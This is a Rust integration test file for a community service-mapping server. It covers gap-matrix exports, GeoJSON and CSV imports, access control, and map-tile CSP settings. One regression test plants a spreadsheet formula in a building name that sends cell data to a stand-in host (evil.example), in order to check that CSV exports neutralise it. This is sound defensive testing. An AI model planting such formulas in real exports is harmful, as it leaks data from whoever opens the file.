//! The 15-minute circle for committees: the gap matrix and importing service points.

use axum::body::Body;
use axum::http::{Request, StatusCode, header};
use linli_server::create_committee_account;
use linli_server::seed::sample_data;
use serde_json::json;

use crate::support::*;

const COMMUNITY: &str = "beiyuan-jiayuan";

async fn post_file(
    s: &TestServer,
    cookie: &str,
    path: &str,
    content_type: &str,
    body: String,
) -> Answer {
    send(
        &s.state,
        Request::post(path)
            .header(header::CONTENT_TYPE, content_type)
            .header(header::COOKIE, cookie)
            .body(Body::from(body))
            .unwrap(),
    )
    .await
}

#[tokio::test]
async fn the_gap_matrix_shows_the_communitys_deliberate_gap_for_every_building() {
    let s = server();
    let cookie = session_cookie(&s.state, &s.account.username, &s.account.password).await;
    let buildings = sample_data()
        .buildings
        .iter()
        .filter(|b| b.community_id == COMMUNITY)
        .count();
    let answer = get_with(
        &s.state,
        &format!("/api/v1/admin/gaps/{COMMUNITY}.json"),
        &[("cookie", &cookie)],
    )
    .await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.text());
    let rows = answer.json();
    let rows = rows.as_array().unwrap();
    assert_eq!(rows.len(), buildings);
    for row in rows {
        // The sample community has no laundry at all: a gap for every building.
        assert!(
            row["missing"]
                .as_array()
                .unwrap()
                .iter()
                .any(|m| m == "laundry"),
            "{row}"
        );
    }

    let csv = get_with(
        &s.state,
        &format!("/api/v1/admin/gaps/{COMMUNITY}.csv"),
        &[("cookie", &cookie)],
    )
    .await;
    assert_eq!(csv.status, StatusCode::OK);
    assert!(
        csv.headers[header::CONTENT_TYPE]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    let text = csv.text();
    assert!(
        text.starts_with('\u{feff}'),
        "a BOM, so Excel reads the Chinese"
    );
    let lines: Vec<&str> = text.trim_end().split("\r\n").collect();
    assert_eq!(lines.len(), buildings + 1);
    let header: Vec<&str> = lines[0].split(',').collect();
    let laundry = header
        .iter()
        .position(|h| h.starts_with("洗染"))
        .expect("a laundry column");
    for line in &lines[1..] {
        assert_eq!(line.split(',').nth(laundry), Some("缺少 missing"), "{line}");
    }

    let signed_out = get(&s.state, &format!("/api/v1/admin/gaps/{COMMUNITY}.json")).await;
    assert_eq!(signed_out.status, StatusCode::UNAUTHORIZED);
    create_committee_account(
        &s.state.db,
        "other",
        "other-password",
        "zhongcang-shangying",
    )
    .unwrap();
    let other = session_cookie(&s.state, "other", "other-password").await;
    let forbidden = get_with(
        &s.state,
        &format!("/api/v1/admin/gaps/{COMMUNITY}.json"),
        &[("cookie", &other)],
    )
    .await;
    assert_eq!(forbidden.status, StatusCode::FORBIDDEN);
}

/// Issue #23: the gap matrix's CSV wrote names as they were, so a building named like a formula
/// ran as one when the committee opened the file in Excel or WPS.
#[tokio::test]
async fn a_name_that_looks_like_a_formula_is_text_in_the_gap_csv() {
    let s = server();
    let cookie = session_cookie(&s.state, &s.account.username, &s.account.password).await;
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"3号楼\")";
    let renamed = formula.to_owned();
    s.state
        .db
        .run_blocking(move |c| {
            c.execute(
                "UPDATE buildings SET name = ?1 WHERE code =
                   (SELECT min(code) FROM buildings WHERE community_id = ?2)",
                [renamed.as_str(), COMMUNITY],
            )?;
            Ok(())
        })
        .unwrap();
    let csv = get_with(
        &s.state,
        &format!("/api/v1/admin/gaps/{COMMUNITY}.csv"),
        &[("cookie", &cookie)],
    )
    .await;
    assert_eq!(csv.status, StatusCode::OK);
    let text = csv.text();
    let mut reader = ::csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let names: Vec<String> = reader.records().map(|r| r.unwrap()[1].to_owned()).collect();
    assert!(names.contains(&format!("'{formula}")), "{names:?}");
    let formulas: Vec<&String> = names
        .iter()
        .filter(|n| n.starts_with(['=', '+', '-', '@']))
        .collect();
    assert!(formulas.is_empty(), "{formulas:?}");
}

#[tokio::test]
async fn a_geojson_import_fills_the_gap_and_a_wrong_row_stores_nothing() {
    let s = server();
    let cookie = session_cookie(&s.state, &s.account.username, &s.account.password).await;
    let path = format!("/api/v1/admin/services/{COMMUNITY}/import");
    let before = count(&s.state, "service_points");
    // A laundry in the middle of the community's buildings, and a row with two mistakes.
    let building = sample_data()
        .buildings
        .into_iter()
        .find(|b| b.community_id == COMMUNITY)
        .unwrap();
    let laundry = json!({
        "type": "Feature", "id": "import-laundry-1",
        "geometry": {"type": "Point", "coordinates": [building.location.lon, building.location.lat]},
        "properties": {"name": "干净洗衣", "category": "laundry", "opening_hours": "Mo-Su 08:00-20:00", "wheelchair": "yes"}
    });
    let broken = json!({
        "type": "Feature", "id": "import-broken",
        // Shanghai: a real position, outside the district.
        "geometry": {"type": "Point", "coordinates": [121.47, 31.23]},
        "properties": {"name": "坏数据", "category": "teleporter"}
    });
    let file = |features: Vec<serde_json::Value>| {
        json!({"type": "FeatureCollection", "features": features}).to_string()
    };

    let refused = post_file(
        &s,
        &cookie,
        &path,
        "application/geo+json",
        file(vec![laundry.clone(), broken.clone()]),
    )
    .await;
    assert_eq!(
        refused.status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "{}",
        refused.text()
    );
    let report = refused.json();
    assert_eq!(report["stored"], false);
    assert_eq!(report["errors"][0]["row"], 2);
    let problems = report["errors"][0]["problems"].to_string();
    assert!(
        problems.contains("teleporter") && problems.contains("outside the district"),
        "{problems}"
    );
    assert_eq!(
        count(&s.state, "service_points"),
        before,
        "all rows or none"
    );

    let preview = post_file(
        &s,
        &cookie,
        &format!("{path}?dry_run=true"),
        "application/geo+json",
        file(vec![laundry.clone()]),
    )
    .await;
    assert_eq!(preview.status, StatusCode::OK);
    assert_eq!(preview.json()["new"], 1);
    assert_eq!(
        count(&s.state, "service_points"),
        before,
        "a dry run stores nothing"
    );

    let stored = post_file(
        &s,
        &cookie,
        &path,
        "application/geo+json",
        file(vec![laundry]),
    )
    .await;
    assert_eq!(stored.status, StatusCode::OK, "{}", stored.text());
    assert_eq!(stored.json()["stored"], true);
    assert_eq!(count(&s.state, "service_points"), before + 1);
    let services = get(&s.state, &format!("/api/v1/services/{COMMUNITY}.json"))
        .await
        .json();
    let imported = services["services"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["id"] == "import-laundry-1")
        .unwrap()
        .clone();
    assert_eq!(imported["step_free"], true);
    assert_eq!(imported["opening_hours"], "Mo-Su 08:00-20:00");

    // The gap is gone for the building the laundry stands at.
    let rows = get_with(
        &s.state,
        &format!("/api/v1/admin/gaps/{COMMUNITY}.json"),
        &[("cookie", &cookie)],
    )
    .await
    .json();
    let row = rows
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["building_code"] == building.code.as_str())
        .unwrap()
        .clone();
    assert!(
        !row["missing"]
            .as_array()
            .unwrap()
            .iter()
            .any(|m| m == "laundry"),
        "{row}"
    );
}

#[tokio::test]
async fn a_csv_import_reports_each_wrong_line() {
    let s = server();
    let cookie = session_cookie(&s.state, &s.account.username, &s.account.password).await;
    let path = format!("/api/v1/admin/services/{COMMUNITY}/import?dry_run=true");
    let csv = "\u{feff}id,name,category,lat,lon,phone,opening_hours,step_free\n\
               csv-1,\"早点铺, 北苑\",breakfast,39.9087,116.657,,Mo-Su 06:00-10:00,no\n\
               csv-2,修车铺,repair,abc,116.657,12,,\n\
               csv-1,重复,pharmacy,39.9,116.6,,,\n"
        .to_owned();
    let answer = post_file(&s, &cookie, &path, "text/csv", csv).await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.text());
    let report = answer.json();
    assert_eq!(report["rows"], 3);
    assert_eq!(report["valid"], 1);
    let errors = report["errors"].as_array().unwrap();
    assert_eq!(
        errors[0]["row"], 3,
        "line 3 of the file (the header is line 1)"
    );
    assert!(errors[0]["problems"].to_string().contains("phone 12"));
    assert_eq!(errors[1]["row"], 4);
    assert!(
        errors[1]["problems"]
            .to_string()
            .contains("already on line 2")
    );

    let missing_column = post_file(&s, &cookie, &path, "text/csv", "id,name\nx,y\n".into()).await;
    assert_eq!(missing_column.status, StatusCode::BAD_REQUEST);
    assert!(
        missing_column.json()["message"]
            .as_str()
            .unwrap()
            .contains("category")
    );
    let not_geojson = post_file(
        &s,
        &cookie,
        &path,
        "application/geo+json",
        "{\"type\":\"Point\"}".into(),
    )
    .await;
    assert_eq!(not_geojson.status, StatusCode::BAD_REQUEST);
}

/// Licensed tiles are off unless the operator chooses a provider: the map page's setting says
/// `null`, and no page's CSP allows images from another host. Chosen, both change together, in
/// the served pages and in a static export's `_headers`.
#[tokio::test]
async fn map_tiles_are_off_by_default_and_the_setting_changes_the_document_and_the_csp() {
    let s = server();
    let off = get(&s.state, linli_api::paths::MAP_TILES).await;
    assert_eq!(off.status, StatusCode::OK);
    assert_eq!(off.json(), json!({ "tiles": null }));
    let page = get(&s.state, &format!("/map/{COMMUNITY}")).await;
    let csp = page.headers[header::CONTENT_SECURITY_POLICY]
        .to_str()
        .unwrap();
    assert!(csp.contains("img-src 'self' data: blob:;"), "{csp}");
    assert!(!csp.contains("tianditu"), "{csp}");

    let setting = linli_server::MapTilesSetting::resolve(&linli_server::TileOptions {
        provider: Some("tianditu".into()),
        tianditu_key: Some("0123abcd".into()),
        approval: Some("GS(2099)0001号".into()),
        url: None,
    })
    .unwrap();
    let spa = linli_server::Spa::load(&s.dir.path().join("dist"), &setting.img_sources).unwrap();
    let state = linli_server::AppState {
        spa: Some(std::sync::Arc::new(spa)),
        map_tiles: std::sync::Arc::new(setting),
        ..s.state.clone()
    };
    let on = get(&state, linli_api::paths::MAP_TILES).await.json();
    assert_eq!(on["tiles"]["provider"], "tianditu");
    assert_eq!(on["tiles"]["gcj02"], false);
    assert_eq!(on["tiles"]["layers"].as_array().unwrap().len(), 2);
    assert!(
        on["tiles"]["notice_zh"]
            .as_str()
            .unwrap()
            .contains("天地图")
    );
    assert!(
        on["tiles"]["notice_zh"]
            .as_str()
            .unwrap()
            .contains("审图号：GS(2099)0001号")
    );
    let page = get(&state, &format!("/map/{COMMUNITY}")).await;
    let csp = page.headers[header::CONTENT_SECURITY_POLICY]
        .to_str()
        .unwrap();
    let img_src = csp
        .split(';')
        .find(|d| d.trim_start().starts_with("img-src"))
        .unwrap();
    for n in 0..8 {
        assert!(
            img_src.contains(&format!(" https://t{n}.tianditu.gov.cn")),
            "{img_src}"
        );
    }
    // Only images: scripts, connections and the rest still come from this site alone.
    assert_eq!(csp.matches("tianditu").count(), 8, "{csp}");
    assert!(csp.contains("connect-src 'self';"));

    let out = tempfile::tempdir().unwrap();
    linli_server::export::export_static_site(
        state.clone(),
        out.path(),
        Some(&s.dir.path().join("dist")),
    )
    .await
    .unwrap();
    let exported: serde_json::Value =
        serde_json::from_slice(&std::fs::read(out.path().join("api/v1/map-tiles.json")).unwrap())
            .unwrap();
    assert_eq!(exported["tiles"]["provider"], "tianditu");
    let headers = std::fs::read_to_string(out.path().join("_headers")).unwrap();
    assert!(headers.contains("https://t7.tianditu.gov.cn"), "{headers}");
}
